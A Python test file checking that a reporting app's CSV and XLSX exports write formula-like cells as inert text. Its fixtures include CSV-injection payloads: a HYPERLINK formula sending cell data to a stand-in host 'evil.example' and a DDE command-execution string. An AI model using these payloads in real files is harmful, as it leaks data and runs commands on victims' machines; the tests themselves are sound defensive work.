"""What the imports hand back is written by the one safe writer: a contributor's cell that starts
like a formula (= + - @) stays text in the report, CSV and XLSX, and a participant's agency name
is never a formula in its template."""

import io

import pytest
from openpyxl import load_workbook

from accounts.models import Agency
from reporting.imports.template import report_csv, report_workbook, template_workbook
from tests.imports.conftest import run_check, upload
from tests.imports.files import csv_bytes, good_row

pytestmark = pytest.mark.django_db

HOSTILE = {
    "Location": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "Narrative": "+cmd|' /C calc'!A0",
    "Vessel": "@SUM(1+1)",
    "Currency": "-2+3",
}


def test_the_report_writes_formula_like_cells_as_text(contributor):
    batch = run_check(upload(contributor, csv_bytes([good_row("F-1", **HOSTILE)])), contributor)
    text = report_csv(batch).decode("utf-8-sig")
    for value in HOSTILE.values():
        assert "'" + value.split('"')[0] in text  # the CSV cell starts with an apostrophe
    book = load_workbook(io.BytesIO(report_workbook(batch)))
    (header, row) = list(book.active.iter_rows())
    cells = {h.value: c for h, c in zip(header, row, strict=True)}
    for heading, value in HOSTILE.items():
        assert cells[heading].data_type == "s"
        assert cells[heading].value == "'" + value  # text, never a live formula
    assert not [c for r in book.active.iter_rows() for c in r if c.data_type == "f"]


def test_an_agency_named_like_a_formula_is_text_in_the_template(owner):
    Agency.objects.create(participant=owner, name='=HYPERLINK("http://x")', kind=Agency.Kind.POLICE)
    book = load_workbook(io.BytesIO(template_workbook(owner)))
    formulas = [c.coordinate for s in book.worksheets for r in s.iter_rows() for c in r if c.data_type == "f"]
    assert formulas == []
    assert '=HYPERLINK("http://x")' in [c.value for r in book["Lists"].iter_rows() for c in r]


def test_coverage_exports_write_a_participant_name_as_text():
    import datetime as dt

    from reporting import compliance
    from tests import factories

    fiji = factories.participant(code="FJI", joined_on=dt.date(2025, 1, 10))
    type(fiji).objects.filter(pk=fiji.pk).update(name="=1+2")
    months = compliance.coverage_months(on=dt.date(2026, 6, 20), count=2)
    rows = compliance.coverage_grid(months=months, on=dt.date(2026, 6, 20))
    assert compliance.coverage_csv(rows=rows, months=months).splitlines()[1].startswith("FJI,'=1+2,")
    sheet = load_workbook(io.BytesIO(compliance.coverage_xlsx(rows=rows, months=months))).active
    assert (sheet["B2"].value, sheet["B2"].data_type) == ("'=1+2", "s")
